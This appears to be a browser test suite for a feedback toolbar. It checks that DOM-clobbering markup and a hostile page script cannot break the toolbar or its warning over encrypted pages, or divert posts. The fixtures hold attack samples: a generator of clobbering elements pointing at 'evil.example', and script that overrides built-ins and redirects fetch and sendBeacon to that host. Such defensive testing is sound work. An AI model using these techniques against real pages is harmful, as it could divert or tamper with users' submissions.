// Markup alone can hide what a document has: `<img name="body">` is then `document.body`. A page without any script must
// neither break the toolbar or the notice over an encrypted page, nor make the toolbar send anywhere else.

import assert from 'node:assert/strict';
import { after, afterEach, before, describe, test } from 'node:test';
import { launch, openPage } from './browser.mjs';
import { startForeignSite } from './foreign-site.mjs';
import { SITE, startImitation, strict, viewerPage } from './imitation.mjs';
import { FRAGMENT, seal } from './sealed.mjs';
import { until } from './server.mjs';
import { pierce } from './shadow.mjs';

const EVIL = 'evil.example';

let browser, server, context, names, foreign, evil;

before(async () => {
  browser = await launch({ hosts: [EVIL] });
  server = await startImitation({});
  foreign = await startForeignSite();
  evil = `http://${EVIL}:${foreign.port}/`;
  const page = await browser.newPage();
  // Everything a document has, and what a page of ours might be called.
  names = await page.evaluate(() => {
    const found = new Set(['dropleaf', 'dropleaf-feedback', 'feedback', 'toolbar']);
    for (let at = document; at; at = Object.getPrototypeOf(at)) for (const name of Object.getOwnPropertyNames(at)) found.add(name);
    return [...found];
  });
  await page.close();
  assert.ok(names.length > 200 && names.includes('currentScript') && names.includes('createElement'), `${names.length} names`);
});
after(async () => {
  await browser?.close();
  await server?.stop();
  await foreign?.stop();
});
afterEach(async () => {
  await context?.close();
  context = undefined;
  server.posted.length = 0;
});

/** The elements that a document names, each in one way of the standard. */
const SHAPES = {
  'images with a name': (name) => `<img name="${name}" src="${evil}picture/" alt="">`,
  'forms with a name': (name) => `<form name="${name}" action="${evil}form/"><input name="src" value="${evil}form/"><input name="href" value="${evil}form/"></form>`,
  'objects with an id': (name) => `<object id="${name}"></object>`,
  'anchors with an id, twice': (name) => `<a id="${name}" href="${evil}"></a><a id="${name}" name="src" href="${evil}"></a>`,
};

/** At a place that is known without a question to the page. */
const HEADING = '<h1 id="heading" style="position: absolute; left: 100px; top: 100px; width: 300px; height: 60px; margin: 0">Named</h1>';
const MIDDLE = [250, 130];

const crowd = (shape) => `<div style="display:none">${names.map(SHAPES[shape]).join('')}</div>`;
const attacked = (shape) => `<!doctype html><title>Named</title><body>${crowd(shape)}${HEADING}`;

async function visit(at, headers) {
  context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await openPage(context);
  page.posts = [];
  page.on('request', (request) => request.method() === 'POST' && page.posts.push(request.url()));
  server.pages['index.html'] = headers;
  await page.goto(server.url + SITE + at);
  return page;
}

/** Runs in the page by the debugger alone: what Playwright brings along would stumble over such a page itself. */
async function run(page, act, ...values) {
  const debug = await page.context().newCDPSession(page);
  const expression = `(${act})(${values.map((value) => JSON.stringify(value)).join(', ')})`;
  const { result, exceptionDetails } = await debug.send('Runtime.evaluate', { expression, returnByValue: true });
  if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
  return result.value;
}

/** Comments on the heading, through the toolbar. */
async function comment(page, words) {
  const bar = await pierce(page);
  await bar.click('.pill');
  await bar.click('.act');
  await bar.seen('.pickbar');
  await page.mouse.click(...MIDDLE);
  await bar.seen('textarea');
  await bar.type(words);
  await bar.click('.send');
  await bar.says('.note', /sent/);
}

describe('the toolbar takes comments and sends them to its own page alone', () => {
  for (const shape of Object.keys(SHAPES)) {
    test(`among ${shape}`, { timeout: 60_000 }, async () => {
      const page = await visit('', { html: attacked(shape), headers: { 'content-security-policy': strict() } });
      await comment(page, 'heard all the same');
      assert.equal(server.posted.length, 1);
      const [{ comment: words, element, page_url }] = server.posted;
      assert.deepEqual({ words, element, page_url }, { words: 'heard all the same', element: 'h1#heading "Named"', page_url: server.url + SITE });
      assert.deepEqual(page.posts, [`${server.url}${SITE}_dropleaf/feedback`]);
    });
  }

  test('on a page whose script replaces what everybody shares, once the toolbar is there', { timeout: 60_000 }, async () => {
    const page = await visit('', { html: `<!doctype html><title>Shared</title>${HEADING}` });
    await pierce(page);
    const isReplaced = await run(page, (url) => {
      const elsewhere = () => fetchNow(url, { method: 'POST', mode: 'no-cors' });
      const fetchNow = window.fetch;
      for (const name of ['push', 'forEach', 'join', 'indexOf', 'slice', 'splice', 'includes']) Array.prototype[name] = function () { throw new Error(name); };
      Element.prototype.attachShadow = function () { throw new Error('attachShadow'); };
      Element.prototype.append = Node.prototype.appendChild = EventTarget.prototype.addEventListener = function () { throw new Error('replaced'); };
      for (const name of ['URL', 'Request', 'Headers', 'AbortController', 'XMLHttpRequest']) window[name] = function () { throw new Error(name); };
      window.fetch = elsewhere;
      navigator.sendBeacon = elsewhere;
      JSON.stringify = () => '{"comment":"replaced"}';
      Object.defineProperty(HTMLScriptElement.prototype, 'src', { get: () => url });
      return window.fetch === elsewhere;
    }, evil);
    assert.ok(isReplaced);
    await comment(page, 'as it was typed');
    assert.deepEqual(server.posted.map((body) => body.comment), ['as it was typed']);
    assert.deepEqual(page.posts, [`${server.url}${SITE}_dropleaf/feedback`]);
  });
});

describe('the notice over an encrypted page stays', () => {
  for (const shape of Object.keys(SHAPES)) {
    test(`among ${shape}`, { timeout: 60_000 }, async () => {
      const html = await viewerPage({ payload: seal(attacked(shape)), anonymous: true });
      const page = await visit(FRAGMENT, { html, toolbar: false });
      await until('the page', () => run(page, () => Document.prototype.getElementById.call(document, 'heading')?.textContent === 'Named'));
      const bar = await pierce(page, 'div');
      await bar.seen('.bar');
      assert.match(await bar.text('.bar'), /published without an account. This server has not checked the content/);
      assert.equal(await bar.run((root) => root.querySelector('a').getAttribute('href')), `${SITE}_dropleaf/report`);
    });
  }
});
